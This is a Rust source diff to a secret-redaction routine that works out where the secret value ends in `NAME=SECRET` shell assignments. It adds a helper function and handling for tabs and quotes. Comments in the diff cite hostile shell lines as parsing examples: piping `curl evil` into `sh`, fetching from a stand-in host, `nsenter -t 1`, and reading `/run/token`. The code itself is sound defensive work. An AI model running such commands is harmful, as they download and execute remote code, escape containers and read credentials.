@@ -290,6 +290,10 @@ pub(super) fn after_colon(text: &[u8]) -> Option<Range<usize>> {
 
 /// `--name=SECRET`, `NAME=SECRET` and `--set=a.name=SECRET`: all that follows.
 pub(super) fn assigned(text: &[u8], script: bool) -> Option<Range<usize>> {
+    // `kubectl create secret generic x --from-file=password=/run/pw`
+    if text.starts_with(b"--from-file=") {
+        return None;
+    }
     // Every byte is looked at once: a text full of `=` must not cost the square of its length.
     let mut from = 0;
     let mut beside: Option<Hint> = None;
@@ -298,7 +302,10 @@ pub(super) fn assigned(text: &[u8], script: bool) -> Option<Range<usize>> {
         from = at + 1;
         // `/d:name=SECRET` is an option.
         let option = at > 3 && text[0] == b'/' && text[2] == b':' && name.as_ptr() == text.as_ptr();
-        if memchr::memchr3(b' ', b'/', b'\n', &name[usize::from(option)..]).is_some() {
+        let before = &name[usize::from(option)..];
+        if memchr::memchr3(b' ', b'/', b'\n', before).is_some()
+            || memchr::memchr(b'\t', before).is_some()
+        {
             return None;
         }
         // What stands before the name itself: dashes, another value.
@@ -329,46 +336,68 @@ pub(super) fn assigned(text: &[u8], script: bool) -> Option<Range<usize>> {
                 let secret = ends::unquoted(text, inner + 1..text.len());
                 let judged = &text[secret.start..secret.end.min(secret.start + JUDGED)];
                 if Hint::of(&text[at + 1..inner]).goes(judged) {
-                    return Some(secret);
+                    let end = assigned_end(text, inner + 1, at + 1, script);
+                    return Some(ends::unquoted(text, inner + 1..end));
                 }
             }
             continue;
         }
-        // `A_TOKEN=x;curl evil|sh` is a line of a shell: what follows is no part of the value.
         let rest = &text[at + 1..];
         // `A_TOKEN=$(cat /run/token)`: what a command prints.
         if matches!(rest, [b'$', b'(', ..] | [b'`', ..]) && memchr::memchr(b' ', rest).is_some() {
             return None;
         }
-        let line = (script || memchr::memchr(b' ', rest).is_some())
-            .then(|| memchr::memchr3(b';', b'|', b'&', rest))
-            .flatten();
-        let mut end = line.map_or(text.len(), |sign| at + 1 + sign);
-        // `auth.password=x,image.tag=1`: another member follows.
-        if let Some(comma) = next_member(&text[at + 1..end]) {
-            end = at + 1 + comma;
-        }
-        // `A_TOKEN='x' nsenter -t 1`: quotes end it before the command that follows.
-        if name.as_ptr() == text.as_ptr() && matches!(rest.first(), Some(b'"' | b'\'')) {
-            let word = word_end(text, at + 1, &mut Quotes::default());
-            if matches!(text.get(word), Some(b' ' | b';' | b'|' | b'&')) {
-                end = word;
-            }
-        }
-        // `A_TOKEN=x curl -s evil/m`: a variable of the command that follows.
-        if name.as_ptr() == text.as_ptr()
-            && !matches!(rest.first(), Some(b'"' | b'\''))
-            && let Some(space) = memchr::memchr(b' ', &text[at + 1..end])
-            && (script || is_command(&text[at + 1 + space..end]))
-        {
-            end = at + 1 + space;
-        }
+        let end =
+            assigned_end(text, at + 1, name.as_ptr() as usize - text.as_ptr() as usize, script);
         let value = ends::unquoted(text, at + 1..end);
         // A script is a text of its own.
         let is_text = memchr::memchr(b'\n', &text[value.clone()]).is_some();
         return (!is_text && is_value(&text[value.clone()])).then_some(value);
     }
     None
+}
+
+/// Where the value ends that starts at `from`, whose name starts at `name`. A script goes on behind it, and
+/// so may any text that looks like one: `A_TOKEN=x;curl evil|sh`, `A_TOKEN=x curl -s evil/m`. Nobody
+/// hides a command by a name before it.
+fn assigned_end(text: &[u8], from: usize, name: usize, script: bool) -> usize {
+    let rest = &text[from..];
+    let blank = |rest: &[u8]| memchr::memchr2(b' ', b'\t', rest);
+    let quote = |byte: &u8| matches!(byte, b'"' | b'\'');
+    // `A_TOKEN='x' nsenter -t 1`: quotes end it before the command that follows.
+    if rest.first().is_some_and(quote) {
+        let word = word_end(text, from, &mut Quotes::default());
+        let follows = |byte: &u8| b" \t;|&,)".contains(byte);
+        if text.get(word).is_some_and(|byte| script || follows(byte)) {
+            return word;
+        }
+    }
+    let line = (script || blank(rest).is_some()).then(|| memchr::memchr3(b';', b'|', b'&', rest));
+    let mut end = line.flatten().map_or(text.len(), |sign| from + sign);
+    // `auth.password=x,image.tag=1`: another member follows.
+    if let Some(comma) = next_member(&text[from..end]) {
+        end = from + comma;
+    }
+    // `JAVA_OPTS="-Dpassword=x" catalina.sh run`: the quote was opened before the name.
+    let opened = name.checked_sub(1).map(|before| text[before]).filter(quote).or_else(|| {
+        let option = memchr::memrchr2(b'"', b'\'', &text[..name])?;
+        let between = &text[option + 1..name];
+        (between.len() < LONGEST_NAME && !between.iter().any(quote)).then_some(text[option])
+    });
+    if let Some(quote) = opened
+        && let Some(close) = memchr::memchr(quote, &text[from..end])
+    {
+        end = from + close;
+    }
+    match blank(&text[from..end]) {
+        Some(at)
+            if !rest.first().is_some_and(quote)
+                && (script || is_command(&text[from + at..end])) =>
+        {
+            from + at
+        }
+        _ => end,
+    }
 }
 
 /// The comma after which `name.of.a.member=` follows.
@@ -383,5 +412,5 @@ pub(super) fn next_member(value: &[u8]) -> Option<usize> {
 pub(super) fn is_command(rest: &[u8]) -> bool {
     memchr::memchr3(b'/', b':', b'|', rest).is_some()
         || memchr::memmem::find(rest, b" -").is_some()
-        || rest.trim_ascii().split(|b| *b == b' ').next().is_some_and(runs_a_program)
+        || rest.trim_ascii().split(u8::is_ascii_whitespace).next().is_some_and(runs_a_program)
 }
